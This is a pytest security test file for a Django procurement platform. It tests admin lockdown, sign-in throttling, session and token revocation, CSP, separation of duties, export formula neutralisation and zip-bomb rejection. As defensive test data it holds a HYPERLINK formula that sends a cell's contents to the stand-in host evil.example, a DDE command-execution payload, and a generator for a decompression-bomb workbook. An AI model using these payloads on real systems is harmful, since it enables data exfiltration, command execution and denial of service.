"""The promises of docs/security.md that are not about bids: the admin site, sessions and
tokens, sign-in throttling, the CSP, separation of duties, and files that cannot attack
their reader. Each test tries the attack."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal as D

import pytest
from django.contrib.auth.tokens import default_token_generator
from django.test import Client
from django.utils.encoding import force_bytes
from django.utils.http import urlsafe_base64_encode
from openpyxl import Workbook, load_workbook

from consortium.audit.models import AuditEvent
from consortium.catalogue import services as catalogue_services
from consortium.catalogue.models import CatalogueItem, PriceChange
from consortium.core.errors import PermissionDenied, ValidationFailed
from consortium.core.files import csv_text, open_workbook, workbook_bytes
from consortium.orders import services as order_services
from consortium.organisations.constants import Role
from consortium.organisations.models import ApiToken, RoleAssignment
from consortium.organisations.services import api_token_create
from consortium.organisations.tests.factories import TEST_PASSWORD

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


# --- the admin site -------------------------------------------------------------------------------


@pytest.fixture
def superuser_client(world):  # type: ignore[no-untyped-def]
    person = world.people[Role.CONSORTIUM_ADMIN]
    person.is_staff = person.is_superuser = True
    person.save()
    client = Client()
    client.force_login(person)
    return client


def test_the_admin_site_changes_nothing(world, superuser_client):
    from django.contrib import admin

    assignment = RoleAssignment.objects.get(person=world.people[Role.MEMBER_BUYER])
    for model, model_admin in admin.site._registry.items():
        label = f"{model._meta.app_label}/{model._meta.model_name}"
        assert not model_admin.has_add_permission(_request(superuser_client, world)), label
        assert not model_admin.has_change_permission(_request(superuser_client, world)), label
        assert not model_admin.has_delete_permission(_request(superuser_client, world)), label
        add = superuser_client.post(f"/admin/{label}/add/", {})
        assert add.status_code in (403, 404), (label, add.status_code)
    # Promote someone, or move a role to another organisation: refused.
    url = f"/admin/organisations/roleassignment/{assignment.pk}/change/"
    response = superuser_client.post(
        url, {"person": assignment.person_id, "organisation": world.supplier.pk, "role": "supplier_user"}
    )
    assert response.status_code == 403
    assert (
        superuser_client.post(
            f"/admin/organisations/roleassignment/{assignment.pk}/delete/", {"post": "yes"}
        ).status_code
        == 403
    )
    assert RoleAssignment.objects.get(pk=assignment.pk).organisation_id == world.member.pk
    bulk = superuser_client.post(
        "/admin/organisations/roleassignment/",
        {"action": "delete_selected", "_selected_action": [assignment.pk]},
    )
    assert bulk.status_code in (200, 302, 403) and RoleAssignment.objects.filter(pk=assignment.pk).exists()


def _request(client: Client, world):  # type: ignore[no-untyped-def]
    from django.test import RequestFactory

    request = RequestFactory().get("/admin/")
    request.user = world.people[Role.CONSORTIUM_ADMIN]
    return request


def test_admin_sign_in_is_the_throttled_sign_in(world, settings):
    response = Client().get("/admin/login/?next=/admin/")
    assert response.status_code == 302 and response["Location"].startswith("/sign-in/")
    settings.SIGN_IN_MAX_FAILURES = 2
    client = Client()
    for _ in range(2):
        client.post("/admin/login/", {"username": "consortium_admin@example.org", "password": "wrong"})
        client.post("/sign-in/?next=/admin/", {"email": "consortium_admin@example.org", "password": "wrong"})
    locked = client.post(
        "/sign-in/?next=/admin/", {"email": "consortium_admin@example.org", "password": TEST_PASSWORD}
    )
    assert locked.status_code == 429


# --- sessions, tokens and sign-in ----------------------------------------------------------------


def test_a_password_reset_ends_every_session_and_revokes_every_token(world):
    person = world.people[Role.MEMBER_BUYER]
    _, raw = api_token_create(actor=world.actor(Role.MEMBER_BUYER), name="finance")
    elsewhere = Client()
    elsewhere.force_login(person)
    assert elsewhere.get("/account/").status_code == 200
    assert Client().get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 200
    uid = urlsafe_base64_encode(force_bytes(person.pk))
    token = default_token_generator.make_token(person)
    client = Client()
    step = client.get(f"/password-reset/{uid}/{token}/", follow=True)
    done = client.post(
        step.redirect_chain[-1][0],
        {"new_password1": "a-new-long-password-9", "new_password2": "a-new-long-password-9"},
    )
    assert done.status_code == 302
    assert elsewhere.get("/account/").status_code == 302  # signed out
    assert Client().get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 401
    assert not ApiToken.objects.filter(person=person, revoked_on__isnull=True).exists()
    assert AuditEvent.objects.filter(action="person.password_reset", object_id=str(person.pk)).exists()


def test_a_password_change_keeps_this_session_ends_the_others_and_revokes_tokens(world):
    person = world.people[Role.MEMBER_BUYER]
    _, raw = api_token_create(actor=world.actor(Role.MEMBER_BUYER), name="finance")
    here, elsewhere = Client(), Client()
    here.force_login(person)
    elsewhere.force_login(person)
    changed = here.post(
        "/account/password/",
        {
            "old_password": TEST_PASSWORD,
            "new_password1": "a-new-long-password-9",
            "new_password2": "a-new-long-password-9",
        },
    )
    assert changed.status_code == 302
    assert here.get("/account/").status_code == 200
    assert elsewhere.get("/account/").status_code == 302
    assert Client().get("/api/v1/me", HTTP_AUTHORIZATION=f"Bearer {raw}").status_code == 401


def test_throttling_behind_a_proxy_is_per_client_not_per_proxy(world, settings):
    settings.SIGN_IN_MAX_FAILURES = 3
    settings.TRUSTED_PROXIES = ["10.0.0.0/8"]
    attacker = {"REMOTE_ADDR": "10.1.1.1", "HTTP_X_FORWARDED_FOR": "203.0.113.66"}
    colleague = {"REMOTE_ADDR": "10.1.1.1", "HTTP_X_FORWARDED_FOR": "198.51.100.7"}
    for _ in range(12):
        Client().post("/sign-in/", {"email": "member_buyer@example.org", "password": "guess"}, **attacker)
    assert (
        Client()
        .post("/sign-in/", {"email": "member_buyer@example.org", "password": TEST_PASSWORD}, **attacker)
        .status_code
        == 429
    )
    # The same proxy, another client: the account's owner still signs in.
    ok = Client().post(
        "/sign-in/", {"email": "member_buyer@example.org", "password": TEST_PASSWORD}, **colleague
    )
    assert ok.status_code == 302
    # A forged header from outside the trusted proxies changes nothing: the real address counts.
    forged = {"REMOTE_ADDR": "203.0.113.66", "HTTP_X_FORWARDED_FOR": "192.0.2.1"}
    for _ in range(3):
        Client().post("/sign-in/", {"email": "approver@example.org", "password": "guess"}, **forged)
    assert (
        Client()
        .post("/sign-in/", {"email": "approver@example.org", "password": TEST_PASSWORD}, **forged)
        .status_code
        == 429
    )


def test_sessions_end_when_idle_and_a_policy_is_sent(world, settings, signed_in):
    from django.conf import settings as live

    assert live.SESSION_SAVE_EVERY_REQUEST and live.SESSION_COOKIE_AGE == live.SESSION_IDLE_MINUTES * 60
    response = signed_in(Role.MEMBER_BUYER).get("/")
    assert response.cookies["sessionid"]["max-age"] == live.SESSION_COOKIE_AGE
    policy = response["Content-Security-Policy"]
    assert (
        "script-src 'self'" in policy and "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy
    )
    assert "Content-Security-Policy" in Client().get("/sign-in/")


# --- separation of duties ---------------------------------------------------------------------------


def test_nobody_approves_their_own_order(world, market):
    approver = world.actor(Role.APPROVER)
    order_services.basket_add(actor=approver, item_id=market.laptop.pk, quantity=2)
    [order] = order_services.checkout(actor=approver, checkout_key="self", delivery_address="Leek")
    assert order.status == "awaiting_approval"
    with pytest.raises(PermissionDenied, match="another approver"):
        order_services.order_step(actor=approver, order=order, to="approved")


def test_nobody_decides_their_own_price_change(world, market):
    cm = world.actor(Role.CATEGORY_MANAGER)
    change = PriceChange.objects.create(
        item=market.pens, old_price=D("2.50"), new_price=D("2.60"), requested_by=cm.person
    )
    with pytest.raises(PermissionDenied, match="someone else"):
        catalogue_services.price_change_decide(actor=cm, change=change, approve=True)


def test_suppliers_cannot_set_the_baseline_the_consortium_can(world, market, token_for):
    supplier = Client()
    item = {
        "lot_id": market.lot.pk,
        "supplier_code": "B-1",
        "name": "Box files",
        "category": "stationery",
        "unit_price": "3.00",
        "baseline_price": "30.00",
    }
    refused = supplier.post(
        "/api/v1/catalogue/items",
        item,
        content_type="application/json",
        HTTP_AUTHORIZATION=f"Bearer {token_for(Role.SUPPLIER_USER)}",
    )
    assert refused.status_code == 422 and "baseline_price" in refused.content.decode()
    with pytest.raises(PermissionDenied):
        catalogue_services.item_baseline_set(
            actor=world.actor(Role.SUPPLIER_USER), item=market.pens, baseline_price=D("9.99")
        )
    before = CatalogueItem.objects.get(pk=market.pens.pk).baseline_price
    catalogue_services.item_baseline_set(
        actor=world.actor(Role.CATEGORY_MANAGER), item=market.pens, baseline_price=D("2.75")
    )
    assert CatalogueItem.objects.get(pk=market.pens.pk).baseline_price == D("2.75")
    event = AuditEvent.objects.get(action="catalogue_item.baseline_set")
    assert event.changes["baseline_price"] == [str(before), "2.75"]


# --- files that cannot attack their reader ---------------------------------------------------------


def test_written_files_neutralise_formulas_but_keep_our_own(world):
    text = csv_text(
        ["name", "amount"], [[FORMULA, D("-5.00")], ["@SUM(A1)", 3], ["\t=1+1", ""], ["-2+3", ""]]
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + FORMULA, "-5.00"]  # numbers stay numbers, even negative
    assert all(r[0].startswith("'") for r in rows[2:])
    wb = Workbook()
    ws = wb.active
    ws["A1"] = FORMULA
    from consortium.core.files import put_formula

    put_formula(ws["B1"], "=SUM(C1:C2)")
    again = load_workbook(io.BytesIO(workbook_bytes(wb)))
    assert again.active["A1"].value == "'" + FORMULA and again.active["A1"].data_type == "s"
    assert again.active["B1"].value == "=SUM(C1:C2)" and again.active["B1"].data_type == "f"


def test_every_export_neutralises_a_suppliers_formula(world, market, signed_in):
    CatalogueItem.objects.filter(pk=market.laptop.pk).update(name=FORMULA)
    buyer = world.actor(Role.MEMBER_BUYER)
    order_services.basket_add(actor=buyer, item_id=market.laptop.pk, quantity=1)
    order_services.checkout(actor=buyer, checkout_key="f1", delivery_address="=cmd|' /C calc'!A0")
    orders_csv = signed_in(Role.MEMBER_BUYER).get("/orders.csv").content.decode("utf-8-sig")
    assert FORMULA not in orders_csv.replace("'" + FORMULA, "")
    for row in csv.reader(io.StringIO(orders_csv)):
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row), row
    activity = signed_in(Role.MEMBER_BUYER).get("/activity.csv").content.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(activity)):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), row
    for table in ("supplier", "member", "category", "contract"):
        response = signed_in(Role.CONSORTIUM_ADMIN).get(f"/mi/export/{table}.xlsx")
        if response.status_code != 200:
            continue
        wb = load_workbook(io.BytesIO(response.content))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (table, cell.coordinate, cell.value)


def _bomb(rows: int = 20_000) -> bytes:
    """A small .xlsx whose one sheet unpacks to a thousand times its size."""
    out = io.BytesIO()
    wb = Workbook()
    base = io.BytesIO()
    wb.save(base)
    with (
        zipfile.ZipFile(io.BytesIO(base.getvalue())) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                cell = b'<row r="1"><c r="A1" t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c></row>"
                data = data.replace(
                    b"<sheetData></sheetData>", b"<sheetData>" + cell * rows + b"</sheetData>"
                )
            dst.writestr(info, data)
    return out.getvalue()


def test_an_upload_that_unpacks_to_too_much_is_refused_before_parsing(world, signed_in):
    bomb = _bomb()
    assert len(bomb) < 100 * 1024
    with pytest.raises(ValidationFailed) as refused:
        open_workbook(bomb, title="Not a workbook", hint="Upload the template")
    assert "unpacks to" in refused.value.field_errors["file"]
    from django.core.files.uploadedfile import SimpleUploadedFile

    page = signed_in(Role.SUPPLIER_USER).post(
        "/supplier/catalogue/upload/", {"file": SimpleUploadedFile("catalogue.xlsx", bomb)}
    )
    assert page.status_code == 400 and b"unpacks to" in page.content


def test_workbooks_people_fill_guard_their_key_columns_and_check_what_is_typed(world):
    from consortium.tendering.demand_workbook import template
    from consortium.tendering.tests.factories import tender_at

    project = tender_at(world, "demand")
    ws = load_workbook(io.BytesIO(template(project, {})))["Demand"]
    assert ws.freeze_panes == "A2" and ws.protection.sheet
    assert ws["A2"].protection.locked and not ws["C2"].protection.locked and not ws["F2"].protection.locked
    kinds = {dv.type for dv in ws.data_validations.dataValidation}
    assert {"decimal", "list"} <= kinds


def test_mi_tables_are_tables(world, market, signed_in):
    buyer = world.actor(Role.MEMBER_BUYER)
    order_services.basket_add(actor=buyer, item_id=market.pens.pk, quantity=3)
    order_services.checkout(actor=buyer, checkout_key="mi", delivery_address="Leek")
    response = signed_in(Role.CONSORTIUM_ADMIN).get("/mi/export/supplier.xlsx")
    assert response.status_code == 200
    ws = load_workbook(io.BytesIO(response.content)).active
    assert ws.freeze_panes == "A2" and ws["A1"].font.b and ws.auto_filter.ref
    numbers = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, int | float)]
    assert numbers and any(c.number_format == '"£"#,##0.00' for c in numbers)
